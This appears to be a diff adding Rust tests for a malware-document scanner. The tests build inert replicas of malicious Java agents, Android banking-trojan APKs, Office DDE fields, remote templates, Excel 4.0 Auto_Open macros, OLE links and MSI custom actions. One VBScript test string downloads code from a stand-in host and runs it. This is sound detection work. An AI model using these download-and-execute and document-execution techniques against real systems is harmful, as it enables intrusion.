@@ -1,0 +1,524 @@
+//! Java, Android, sheets of macros and scripts of installers: replicas that must be found, and twins that must not. All inert, as in
+//! `make`: classes and programs have texts and no method.
+
+use std::io::{Cursor, Write};
+
+use madang_artefact::{
+    facts::{Kind, Reason},
+    probe,
+    report::Verdict,
+};
+use proptest::prelude::*;
+
+use crate::{
+    facts,
+    make::{noise, pe, zip},
+    report,
+};
+
+/// A class that has these texts and nothing else.
+fn class(texts: &[&str]) -> Vec<u8> {
+    let mut class = b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec();
+    class.extend((texts.len() as u16 + 1).to_be_bytes());
+    for text in texts {
+        class.push(1);
+        class.extend((text.len() as u16).to_be_bytes());
+        class.extend(text.as_bytes());
+    }
+    class.extend([0; 14]);
+    class
+}
+
+fn jar(manifest: &str, files: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let manifest = format!("Manifest-Version: 1.0\r\n{manifest}\r\n").into_bytes();
+    let mut all = vec![("META-INF/MANIFEST.MF", manifest)];
+    all.extend(files.iter().cloned());
+    zip(&all)
+}
+
+/// A program of Android that has these texts and nothing else.
+fn dex(texts: &[&str]) -> Vec<u8> {
+    let mut program = b"dex\n035\0".to_vec();
+    program.resize(0x38, 0);
+    program.extend((texts.len() as u32).to_le_bytes());
+    program.extend(0x70_u32.to_le_bytes());
+    program.resize(0x70, 0);
+    let mut body = Vec::new();
+    for text in texts {
+        program.extend((0x70 + 4 * texts.len() as u32 + body.len() as u32).to_le_bytes());
+        body.push(text.len() as u8);
+        body.extend(text.as_bytes());
+        body.push(0);
+    }
+    program.extend(body);
+    program
+}
+
+/// A binary manifest of these texts.
+fn axml(texts: &[&str], wide: bool) -> Vec<u8> {
+    let (mut places, mut body) = (Vec::new(), Vec::new());
+    for text in texts {
+        places.extend((body.len() as u32).to_le_bytes());
+        if wide {
+            body.extend((text.len() as u16).to_le_bytes());
+            body.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+            body.extend([0, 0]);
+        } else {
+            body.extend([text.len() as u8, text.len() as u8]);
+            body.extend(text.as_bytes());
+            body.push(0);
+        }
+    }
+    let size = 28 + places.len() as u32 + body.len() as u32;
+    let mut manifest = vec![3, 0, 8, 0];
+    manifest.extend((8 + size).to_le_bytes());
+    manifest.extend([1, 0, 28, 0]);
+    let flags = if wide { 0 } else { 0x100 };
+    for number in [size, texts.len() as u32, 0, flags, 28 + places.len() as u32, 0] {
+        manifest.extend(number.to_le_bytes());
+    }
+    manifest.extend(places);
+    manifest.extend(body);
+    manifest
+}
+
+fn apk(permissions: &[&str], texts: &[&str], files: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let names: Vec<String> = permissions.iter().map(|name| format!("android.permission.{name}")).collect();
+    let names: Vec<&str> = names.iter().map(String::as_str).collect();
+    let mut all =
+        vec![("AndroidManifest.xml", axml(&names, texts.len() % 2 == 0)), ("classes.dex", dex(texts))];
+    all.extend(files.iter().cloned());
+    zip(&all)
+}
+
+fn document(body: &str, relations: &str) -> Vec<u8> {
+    let xml = |text: String| format!("<?xml version=\"1.0\"?>{text}").into_bytes();
+    zip(&[
+        ("[Content_Types].xml", xml("<Types/>".into())),
+        ("word/document.xml", xml(format!("<w:document xmlns:w=\"w\"><w:p>{body}</w:p></w:document>"))),
+        ("word/_rels/settings.xml.rels", xml(format!("<Relationships>{relations}</Relationships>"))),
+    ])
+}
+
+fn template(target: &str) -> Vec<u8> {
+    document(
+        "<w:t>a</w:t>",
+        &format!(
+            "<Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"{target}\" TargetMode=\"External\"/>"
+        ),
+    )
+}
+
+fn workbook(name: &str, formula: &str, sheet: &str) -> Vec<u8> {
+    let xml = |text: String| format!("<?xml version=\"1.0\"?>{text}").into_bytes();
+    zip(&[
+        ("[Content_Types].xml", xml("<Types/>".into())),
+        (
+            "xl/workbook.xml",
+            xml(format!(
+                "<workbook><sheets><sheet name=\"m\" state=\"veryHidden\"/></sheets><definedNames><definedName name=\"{name}\">m!$A$1</definedName></definedNames></workbook>"
+            )),
+        ),
+        (
+            "xl/sheets/a.xml",
+            xml(format!("<{sheet}><sheetData><row><c><f>{formula}</f></c></row></sheetData></{sheet}>")),
+        ),
+    ])
+}
+
+fn compound(streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let mut compound = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for (name, body) in streams {
+        compound.create_stream(name).unwrap().write_all(body).unwrap();
+    }
+    compound.into_inner().into_inner()
+}
+
+/// An old workbook whose second sheet is of this kind, with a name that is built in.
+fn old_workbook(kind: u8, name: u8, formula: &[u8]) -> Vec<u8> {
+    let record = |kind: u16, body: &[u8]| {
+        let mut record = kind.to_le_bytes().to_vec();
+        record.extend((body.len() as u16).to_le_bytes());
+        record.extend(body);
+        record
+    };
+    let stream = [
+        record(0x809, &[0, 6, 5, 0, 0, 0, 0, 0]),
+        record(0x85, &[0, 0, 0, 0, 2, kind, 1, 0, b'm']),
+        record(0x18, &[0x20, 0, 0, 1, 7, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, name]),
+        record(6, formula),
+        record(10, &[]),
+    ];
+    compound(&[("/Workbook", stream.concat())])
+}
+
+/// A rich text with an object that is linked to an address, or only in it.
+fn rich(control: &str, address: Option<&str>) -> Vec<u8> {
+    let mut stream = vec![1, 0, 0, 2];
+    if let Some(address) = address {
+        stream.extend([
+            0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0, 0xaa, 0, 0x4b, 0xa9, 0x0b,
+        ]);
+        let text: Vec<u8> = address.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
+        stream.extend((text.len() as u32).to_le_bytes());
+        stream.extend(text);
+    }
+    let object = compound(&[("/\u{1}Ole", stream)]);
+    let mut data = vec![1, 5, 0, 0, 2, 0, 0, 0, 9, 0, 0, 0];
+    data.extend(b"OLE2Link\0\0\0\0\0\0\0\0\0");
+    data.extend((object.len() as u32).to_le_bytes());
+    data.extend(object);
+    let digits: String = data.iter().map(|byte| format!("{byte:02x}")).collect();
+    format!("{{\\rtf1 a{{\\object{control}{{\\*\\objdata {digits}}}}}}}").into_bytes()
+}
+
+fn installer(kind: i32, target: &str) -> Vec<u8> {
+    let mut package = msi::Package::create(msi::PackageType::Installer, Cursor::new(Vec::new())).unwrap();
+    let text = |name: &str| msi::Column::build(name).primary_key().string(72);
+    let tables = [
+        ("Property", vec![text("Property"), msi::Column::build("Value").string(0)]),
+        ("File", vec![text("File")]),
+        ("InstallExecuteSequence", vec![text("Action")]),
+        (
+            "CustomAction",
+            vec![
+                text("Action"),
+                msi::Column::build("Type").int32(),
+                msi::Column::build("Source").nullable().string(72),
+                msi::Column::build("Target").nullable().string(0),
+            ],
+        ),
+    ];
+    for (name, columns) in tables {
+        package.create_table(name, columns).unwrap();
+    }
+    let texts = |words: &[&str]| words.iter().map(|word| msi::Value::from(*word)).collect::<Vec<_>>();
+    package.insert_rows(msi::Insert::into("Property").row(texts(&["Code", target]))).unwrap();
+    package
+        .insert_rows(msi::Insert::into("CustomAction").row(vec![
+            msi::Value::from("Finish"),
+            msi::Value::Int(kind),
+            msi::Value::from(if kind & 0x3f >= 50 { "Code" } else { "code" }),
+            msi::Value::from(target),
+        ]))
+        .unwrap();
+    if matches!(kind & 0x3f, 5 | 6) {
+        package.write_stream("Binary.code").unwrap().write_all(target.as_bytes()).unwrap();
+    }
+    package.into_inner().unwrap().into_inner()
+}
+
+const FETCHES: [&str; 3] = ["java/net/URL", "openStream", "https://a.invalid/x"];
+const STARTS: [&str; 2] = ["java/lang/Runtime", "exec"];
+
+fn all(parts: &[&[&'static str]]) -> Vec<u8> {
+    class(&parts.concat())
+}
+
+/// A class that decrypts and loads, and the picture that it names.
+fn hidden_class(picture: &[u8]) -> Vec<u8> {
+    let texts = ["javax/crypto/Cipher", "java/lang/ClassLoader", "defineClass", "/img/a.png"];
+    jar("", &[("a/Main.class", class(&texts)), ("img/a.png", picture.to_vec())])
+}
+
+/// One replica and one twin for each rule of this file.
+pub(crate) fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
+    const GET: &str = "Ljava/net/HttpURLConnection;";
+    const LOAD: [&str; 3] =
+        ["Ldalvik/system/InMemoryDexClassLoader;", "Ljavax/crypto/Cipher;", "assets/font.ttf"];
+    let exec = [0, 0x42, 1, 0x6e, 0];
+    let agent = "Premain-Class: a.Agent\r\n";
+    let fetch = "Set h=CreateObject(\"MSXML2.XMLHTTP\"):h.Open \"GET\",\"https://a.invalid/f\",False:h.Send";
+    let acts = |more: &[&'static str]| jar("", &[("a/A.class", all(&[&FETCHES, &STARTS, more]))]);
+    let bank = ["BIND_ACCESSIBILITY_SERVICE", "SYSTEM_ALERT_WINDOW", "READ_SMS"];
+    let font = |head: &[u8]| apk(&[], &LOAD, &[("assets/font.ttf", [head, &noise(9000, 5)].concat())]);
+    let mut icon = b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x04\0\0\0\x16\0\0\0abcd".to_vec();
+    let short = icon.clone();
+    icon.extend(noise(40_000, 11));
+    let beside = |icon: Vec<u8>| {
+        let program = pe(&["ReflectiveLoader"], "bcrypt.dll", &["BCryptDecrypt"], None);
+        zip(&[("a/logo.ico", icon), ("a/skin.dll", program)])
+    };
+    let picture = noise(20_000, 3);
+    vec![
+        ("D70", old_workbook(1, 1, &exec), old_workbook(0, 6, &exec)),
+        ("A30", installer(38, &format!("{fetch}:ExecuteGlobal h.ResponseText")), installer(38, fetch)),
+        ("B50", beside(icon), beside(short)),
+        (
+            "G71",
+            jar(agent, &[("a/Agent.class", all(&[&FETCHES, &STARTS]))]),
+            jar(agent, &[("a/Agent.class", all(&[&FETCHES]))]),
+        ),
+        ("G72", acts(&["setExecutable"]), acts(&[])),
+        ("G73", hidden_class(&picture), hidden_class(&[b"\x89PNG\r\n\x1a\n", &picture[..]].concat())),
+        ("G74", apk(&["REQUEST_INSTALL_PACKAGES"], &[GET], &[]), apk(&["INTERNET"], &[GET], &[])),
+        ("G75", apk(&bank, &["x"], &[]), apk(&bank[1..], &["x"], &[])),
+        ("G76", font(b"none"), font(b"\0\x01\0\0\0")),
+    ]
+}
+
+#[test]
+fn code_of_java_is_read() {
+    let agent = "Launcher-Agent-Class: a.Ag\r\n ent\r\n";
+    let two = |second: &[&'static str]| {
+        jar("", &[("a/Get.class", all(&[&FETCHES])), ("a/Run.class", all(&[&STARTS, second]))])
+    };
+    let many = |class: Vec<u8>| {
+        let names: Vec<String> = (0..80).map(|number| format!("a/C{number}.class")).collect();
+        let mut files: Vec<(&str, Vec<u8>)> =
+            names.iter().map(|name| (name.as_str(), all(&[&FETCHES]))).collect();
+        files.push(("a/Run.class", class));
+        jar("", &files)
+    };
+    let found = [
+        ("agent", jar(agent, &[("a/Agent.class", all(&[&FETCHES]))]), "G71"),
+        (
+            "agent of two parts",
+            jar(
+                "Premain-Class: a.Agent\r\n",
+                &[("a/Agent.class", all(&[&FETCHES])), ("a/B.class", all(&[&STARTS]))],
+            ),
+            "G71",
+        ),
+        ("made executable", two(&["setExecutable"]), "G72"),
+        ("starts by itself", two(&["Software\\Microsoft\\Windows\\CurrentVersion\\Run"]), "G72"),
+        (
+            "by reflection",
+            jar("", &[("a/A.class", all(&[&FETCHES, &["java.lang.Runtime", "exec", "setExecutable"]]))]),
+            "G72",
+        ),
+        ("one class of many", many(all(&[&FETCHES, &STARTS, &["setExecutable"]])), "G72"),
+        ("no picture", hidden_class(&noise(20_000, 3)), "G73"),
+    ];
+    for (words, bytes, id) in found {
+        let report = report(&bytes);
+        assert_eq!(report.verdict, Verdict::Review, "{words}: {:?}", report.findings);
+        assert!(report.findings.iter().any(|finding| finding.id == id), "{words}: {:?}", report.findings);
+    }
+    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+    png.extend(noise(20_000, 3));
+    let clear = [
+        (
+            "agent that only changes classes",
+            jar(agent, &[("a/Agent.class", class(&["premain", "java/lang/instrument/Instrumentation"]))]),
+        ),
+        (
+            "agent that starts with those who ask for it",
+            jar("Premain-Class: a.Agent\r\n", &[("a/Agent.class", all(&[&FETCHES]))]),
+        ),
+        ("fetches and starts", two(&[])),
+        ("checks a signature", two(&["setExecutable", "java/security/Signature", "verify"])),
+        ("spread over many classes", many(all(&[&STARTS, &["setExecutable"]]))),
+        ("a picture", hidden_class(&png)),
+    ];
+    for (words, bytes) in clear {
+        let report = report(&bytes);
+        assert_eq!(report.verdict, Verdict::Clear, "{words}: {:?}", report.findings);
+    }
+}
+
+#[test]
+fn applications_of_android_are_read() {
+    const GET: &str = "Ljava/net/HttpURLConnection;";
+    const MEMORY: &str = "Ldalvik/system/InMemoryDexClassLoader;";
+    const CIPHER: &str = "Ljavax/crypto/Cipher;";
+    let bank = ["BIND_ACCESSIBILITY_SERVICE", "SYSTEM_ALERT_WINDOW", "READ_SMS"];
+    let font = |bytes: Vec<u8>| vec![("assets/font.ttf", bytes)];
+    let found = [
+        ("installs", apk(&["REQUEST_INSTALL_PACKAGES"], &[GET], &[]), "G74"),
+        ("loads", apk(&["INTERNET"], &[GET, "Ldalvik/system/DexClassLoader;"], &[]), "G74"),
+        ("covers", apk(&bank, &["x"], &[]), "G75"),
+        ("covers, texts of two bytes", apk(&bank, &["x", "y"], &[]), "G75"),
+        ("no font", apk(&[], &[MEMORY, CIPHER, "assets/font.ttf"], &font(noise(9000, 5))), "G76"),
+        ("packed", apk(&[], &[MEMORY, CIPHER], &[("assets/a", noise(9000, 5))]), "G76"),
+    ];
+    for (words, bytes, id) in found {
+        let report = report(&bytes);
+        assert_eq!(report.verdict, Verdict::Review, "{words}: {:?}", report.findings);
+        assert!(report.findings.iter().any(|finding| finding.id == id), "{words}: {:?}", report.findings);
+    }
+    let mut real = b"\0\x01\0\0\0".to_vec();
+    real.extend(noise(9000, 5));
+    let clear = [
+        ("talks", apk(&["INTERNET", "CAMERA"], &[GET, "Landroid/app/Activity;"], &[])),
+        ("accessibility alone", apk(&bank[..1], &["x"], &[])),
+        ("messages alone", apk(&bank[1..], &["x"], &[])),
+        ("a font", apk(&[], &[MEMORY, CIPHER, "assets/font.ttf"], &font(real))),
+        ("packed, and nothing loads it", apk(&[], &[CIPHER], &[("assets/a", noise(9000, 5))])),
+    ];
+    for (words, bytes) in clear {
+        let report = report(&bytes);
+        assert_eq!(report.verdict, Verdict::Clear, "{words}: {:?}", report.findings);
+    }
+}
+
+#[test]
+fn code_that_cannot_be_read_is_not_called_clear() {
+    let mut damaged = dex(&["a"]);
+    damaged[0x38] = 9;
+    let manifest = axml(&["android.permission.INTERNET"], true);
+    let cases = [
+        (
+            "class",
+            jar("", &[("a/A.class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x02\x63".to_vec())]),
+            Reason::Damaged,
+        ),
+        ("no class", jar("", &[("a/A.class", noise(5000, 9))]), Reason::Variant),
+        (
+            "program",
+            zip(&[("AndroidManifest.xml", manifest.clone()), ("classes.dex", damaged)]),
+            Reason::Damaged,
+        ),
+        (
+            "no program",
+            zip(&[("AndroidManifest.xml", manifest), ("classes.dex", noise(5000, 9))]),
+            Reason::Variant,
+        ),
+        (
+            "no manifest",
+            zip(&[("AndroidManifest.xml", noise(5000, 9)), ("classes.dex", dex(&["a"]))]),
+            Reason::Variant,
+        ),
+        (
+            "old workbook with a password",
+            compound(&[("/Workbook", b"\x09\x08\x04\0\0\x06\x05\0\x2f\0\x02\0\x01\0".to_vec())]),
+            Reason::Encrypted,
+        ),
+    ];
+    for (words, bytes, reason) in cases {
+        let facts = facts(&bytes);
+        assert!(
+            facts.unopened.iter().any(|unopened| unopened.reason == reason),
+            "{words}: {:?}",
+            facts.unopened
+        );
+        assert_eq!(report(&bytes).verdict, Verdict::NotVettable, "{words}");
+    }
+}
+
+#[test]
+fn documents_act_without_macros_in_basic() {
+    let field = |pieces: &[&str]| {
+        let pieces: String =
+            pieces.iter().map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>")).collect();
+        document(
+            &format!("<w:fldChar w:fldCharType=\"begin\"/>{pieces}<w:fldChar w:fldCharType=\"end\"/>"),
+            "",
+        )
+    };
+    let exec = [0, 0x42, 1, 0x6e, 0];
+    let cases = [
+        ("field in pieces", field(&[" DDE", "AUTO cmd.exe \"/c exit 0\""]), Verdict::Review),
+        ("usual field", field(&[" TOC \\o ", "\"1-3\""]), Verdict::Clear),
+        ("template elsewhere", template("https://a.invalid/t.dotm"), Verdict::Review),
+        ("template on a share", template("file://a.invalid/t.dotm"), Verdict::Review),
+        ("template of the reader", template("file:///C:\\Users\\a\\Templates\\Normal.dotm"), Verdict::Clear),
+        ("macro sheet", workbook("_xlnm.Auto_Open", "EXEC(\"x\")", "macrosheet"), Verdict::Block),
+        (
+            "macro sheet that waits",
+            workbook("_xlnm.Print_Area", "EXEC(\"x\")", "macrosheet"),
+            Verdict::Review,
+        ),
+        ("usual sheet", workbook("_xlnm.Print_Area", "SUM(A1)", "worksheet"), Verdict::Clear),
+        ("old macro sheet", old_workbook(1, 1, &exec), Verdict::Block),
+        ("old macro sheet, no call", old_workbook(1, 1, &[]), Verdict::Review),
+        ("old macro sheet that waits", old_workbook(1, 6, &exec), Verdict::Review),
+        ("old usual sheet", old_workbook(0, 6, &exec), Verdict::Clear),
+        ("linked object", rich("\\objautlink\\objupdate", Some("https://a.invalid/a.hta")), Verdict::Review),
+        (
+            "linked object, without its word",
+            rich("\\objemb", Some("https://a.invalid/a.hta")),
+            Verdict::Review,
+        ),
+        ("object that loads itself", rich("\\objemb\\objupdate", None), Verdict::Review),
+        ("object", rich("\\objemb", None), Verdict::Clear),
+    ];
+    for (words, bytes, verdict) in cases {
+        let report = report(&bytes);
+        assert_eq!(report.verdict, verdict, "{words}: {:?}", report.findings);
+    }
+    let objects = facts(&rich("\\objemb", None)).objects;
+    assert_eq!(objects[1].kind, Kind::OleDocument, "the compound file is the object, and no package");
+}
+
+/// Office reads parts without a first line, and in UTF-16, too.
+#[test]
+fn parts_are_read_whatever_their_first_bytes_are() {
+    let relations = "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://a.invalid/t\" TargetMode=\"External\"/></Relationships>";
+    let wide: Vec<u8> =
+        [0xfeff].into_iter().chain(relations.encode_utf16()).flat_map(u16::to_le_bytes).collect();
+    for part in [relations.as_bytes().to_vec(), [&b"\xef\xbb\xbf"[..], relations.as_bytes()].concat(), wide] {
+        let bytes =
+            zip(&[("[Content_Types].xml", b"<Types/>".to_vec()), ("word/_rels/settings.xml.rels", part)]);
+        assert_eq!(report(&bytes).verdict, Verdict::Review);
+    }
+}
+
+#[test]
+fn scripts_of_installers_are_read() {
+    let fetch = "Err.Raise 1\r\nSet h=CreateObject(\"MSXML2.XMLHTTP\"):h.Open \"GET\",\"https://a.invalid/f\",False:h.Send:";
+    let evaluates = format!("{fetch}ExecuteGlobal h.ResponseText");
+    let starts = format!("{fetch}CreateObject(\"WScript.Shell\").Run x");
+    let sets = "Session.Property(\"A\")=\"b\"\r\nSet s=CreateObject(\"WScript.Shell\")\r\ns.RegRead \"x\"";
+    for kind in [6, 38, 54, 38 + 1024 + 2048, 6 + 64] {
+        for (text, verdict) in
+            [(evaluates.as_str(), Verdict::Block), (&starts, Verdict::Review), (sets, Verdict::Clear)]
+        {
+            let report = report(&installer(kind, text));
+            assert_eq!(report.verdict, verdict, "{kind}: {text}: {:?}", report.findings);
+        }
+    }
+    assert_eq!(
+        report(&installer(51, &evaluates)).verdict,
+        Verdict::Clear,
+        "a property is set, and nothing runs"
+    );
+}
+
+#[test]
+fn data_behind_a_picture_needs_a_program_that_could_use_it() {
+    let mut icon = b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x04\0\0\0\x16\0\0\0abcd".to_vec();
+    let plain = icon.clone();
+    icon.extend(noise(40_000, 11));
+    let loads = |text: &str| pe(&[text], "bcrypt.dll", &["BCryptDecrypt"], None);
+    let with = |icon: &[u8], program: Vec<u8>| zip(&[("a/logo.ico", icon.to_vec()), ("a/skin.dll", program)]);
+    let cases = [
+        (with(&icon, loads("ReflectiveLoader")), true),
+        (with(&icon, loads("x")), false),
+        (with(&plain, loads("ReflectiveLoader")), false),
+    ];
+    for (bytes, found) in cases {
+        let report = report(&bytes);
+        assert_eq!(report.findings.iter().any(|finding| finding.id == "B50"), found, "{:?}", report.findings);
+    }
+}
+
+proptest! {
+    /// Readers of nonsense with the right head end, without a panic.
+    #[test]
+    fn nonsense_is_read_to_some_end(body in proptest::collection::vec(any::<u8>(), 0..600), at in 0_usize..200, value in any::<u32>()) {
+        let heads: [(&[u8], Kind); 6] = [
+            (b"\x89PNG\r\n\x1a\n", Kind::Image),
+            (b"\0\0\x01\0", Kind::Image),
+            (b"\xca\xfe\xba\xbe\0\0\0\x34", Kind::JavaClass),
+            (b"dex\n035\0", Kind::Dex),
+            (b"\x03\0\x08\0", Kind::Data),
+            (b"\x09\x08\x08\0\0\x06\x05\0", Kind::Data),
+        ];
+        for (head, kind) in heads {
+            let bytes = [head, &body].concat();
+            probe::read_bytes_as(kind, &bytes);
+            probe::android_texts(&bytes);
+            probe::workbook(&bytes);
+        }
+        // One number of a file that is right is changed.
+        let good = [class(&["a", "java/net/URL"]), dex(&["a", "b"]), axml(&["a", "bc"], true), axml(&["a"], false)];
+        for mut bytes in good {
+            let at = at % (bytes.len() - 3);
+            bytes[at..at + 4].copy_from_slice(&value.to_le_bytes());
+            probe::read_bytes_as(Kind::JavaClass, &bytes);
+            probe::android_texts(&bytes);
+            probe::workbook(&bytes);
+        }
+    }
+}
